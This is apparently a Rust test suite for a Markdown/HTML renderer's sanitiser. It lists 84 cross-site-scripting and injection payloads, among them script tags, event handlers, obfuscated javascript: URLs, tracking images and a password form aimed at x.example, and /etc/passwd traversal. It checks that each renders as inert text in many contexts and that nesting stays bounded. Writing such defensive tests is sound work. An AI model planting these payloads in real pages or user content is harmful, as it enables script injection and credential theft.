//! Known ways of getting a script, a request or a control into a page.

use crate::allowed::{check, written};
use crate::render;

/// Each is tried alone, in a line of text, in a list, in a quote, in a cell, in a title, and behind what is left open.
const ATTACKS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"i.png\" onload=\"alert(1)\" style=\"position:fixed\">",
    "<img/src=i.png/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=https://x.example/track.gif>",
    "<img src=//x.example/track.gif>",
    "<img srcset=\"https://x.example/a 1x\" src=i.png>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "![a](https://x.example/track.gif)",
    "![a](javascript:alert(1))",
    "![a](data:image/png;base64,AAAA)",
    "![a\" onerror=\"alert(1)](i.png \"b\\\" onload=\\\"alert(1)\")",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](\\\\x.example/path)",
    "[a](//x.example/path)",
    "[a](https:x.example)",
    "[a](file:///etc/passwd)",
    "[a](../../../../../etc/passwd)",
    "[a](%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)",
    "[a](https://x.example/\"onclick=\"alert(1))",
    "[a](i.png%22%20onerror=alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"&#106;avascript:alert(1)\">a</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href=https://x.example target=_blank rel=opener ping=https://x.example>a</a>",
    "<a xlink:href=\"javascript:alert(1)\">a</a>",
    "<a href=\"https://x.example\"onclick=alert(1)>a</a>",
    "<b onmouseover=alert(1)>a</b>",
    "<b style=\"background:url(https://x.example)\" class=\"frame\">a</b>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://x.example>",
    "<meta http-equiv=refresh content=\"0;url=https://x.example\">",
    "<base href=https://x.example>",
    "<iframe src=https://x.example srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://x.example></object><embed src=https://x.example>",
    "<video src=https://x.example poster=https://x.example autoplay></video><audio src=x onerror=alert(1)>",
    "<picture><source srcset=https://x.example><img src=i.png></picture>",
    "<form action=https://x.example><input name=password><button>go</button></form>",
    "<input type=image src=https://x.example onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>go</button><isindex action=x>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<plaintext><b>a",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<!DOCTYPE x [<!ENTITY a \"<script>\">]>",
    "<a id=document name=cookie></a><a id=location></a><img name=body id=forms src=i.png>",
    "<p id=\"answer-enable-disable\" id=x>a</p><a name=\"d-note-1\">b</a>",
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>a</summary>b",
    "<table background=https://x.example><tr><td background=https://x.example>a<img src=x></table>",
    "<table><script>alert(1)</script><tr><p>a</p><td>b</tr><div>c",
    "<a href=#a><table><a href=#b><tr><td><a href=#c>x</table>",
    "<b><p></b></p><i><div></i></div></td></li></ul></table></article></main>",
    "<div title=\"a&quot; onclick=&quot;alert(1)\">a</div>",
    "```html\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"] --> B\nclick A \"javascript:alert(1)\"\n```",
    "# <script>alert(1)</script> {onclick=alert(1)} <img src=x onerror=alert(1)>",
];

#[test]
fn attacks_are_text() {
    for attack in ATTACKS {
        let lines = attack.replace('\n', "\n  ");
        let line = attack.replace('\n', " ");
        let places = [
            attack.to_owned(),
            format!("text {attack} text\n\nmore"),
            format!("- {lines}\n- more\n"),
            format!("> {}\n", attack.replace('\n', "\n> ")),
            format!("| a | {line} |\n| - | - |\n| b | {line} |\n"),
            format!("# {line}\n\n[^1]\n\n[^1]: {line}\n"),
            format!("<details><summary>{attack}\n\nx\n\n</details>"),
            format!("<table><tr>{attack}\n\n<td>{attack}\n\n</table>\n\n<pre>{attack}"),
            format!("[{attack}](https://x.example) ![{attack}](i.png) `{attack}` **{attack}\n"),
            format!("<a href=\"{attack}\" title='{attack}'>a</a> <img alt=\"{attack}\" src=i.png>"),
            format!("```\n```\n<!-- open\n<?>{attack}<??>{attack}"),
        ];
        for text in places {
            check(&render(&text), &text);
        }
    }
}

/// The same of what is only wrong in two pieces.
#[test]
fn attacks_beside_attacks_are_text() {
    for (at, first) in ATTACKS.iter().enumerate() {
        let second = ATTACKS[(at * 31 + 7) % ATTACKS.len()];
        for text in [format!("{first}{second}"), format!("{first}\n\n{second}"), format!("<div {first} <b {second}")] {
            check(&render(&text), &text);
        }
    }
}

#[test]
fn nothing_is_loaded_from_elsewhere() {
    for (text, images) in [("![a](i.png)", 1), ("![a](https://x.example/i.png)", 0), ("![a](//x.example/i.png)", 0)] {
        let html = render(text).html;
        assert_eq!(written(&html).iter().filter(|element| element.name == "img").count(), images, "{html}");
    }
}

/// Texts that make careless readers deep, or their output long.
#[test]
fn hostile_lengths_stay_small() {
    const TIMES: usize = 5_000;
    let pieces = [
        ">",
        "- ",
        "<b>",
        "<div>",
        "<details>\n\n",
        "</div>",
        "<a href=\"",
        "<b a='<b a=\"",
        "[",
        "![",
        "`",
        "<!--",
        "<?",
        "<!a",
        "*a_",
        "&",
        "&#",
        "http://",
        "www.a",
        "(https://a.b/(",
        "<td>",
        "<table><tr><td>",
        "<ul><li>",
        "<p>",
        "```\n",
        "[^a]",
        "[^a]: b\n\n",
        "# a\n",
        "\n\n    ```\n",
        "<a name=x>",
        "${",
        "|a",
        "<summary>",
        "\u{1}",
        "\u{2}",
    ];
    for piece in pieces {
        let text = piece.repeat(TIMES);
        let rendered = render(&text);
        let deepest = written(&rendered.html).iter().map(|element| element.depth).max().unwrap_or(0);
        assert!(deepest < 110, "{piece:?} is {deepest} deep");
        assert!(rendered.html.len() < text.len() * 40 + 1000, "{piece:?} becomes {} bytes", rendered.html.len());
    }
}
